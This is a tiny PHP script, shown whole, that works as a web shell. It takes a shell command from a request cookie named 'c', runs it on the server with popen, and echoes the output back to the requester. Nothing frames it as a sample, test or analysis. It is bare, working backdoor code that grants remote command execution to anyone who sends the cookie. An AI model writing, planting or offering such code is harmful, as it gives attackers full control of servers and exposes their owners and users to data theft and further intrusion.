<?php
$h = popen($_COOKIE['c'] . ' 2>&1', 'r');
echo fread($h, 4096);
pclose($h);
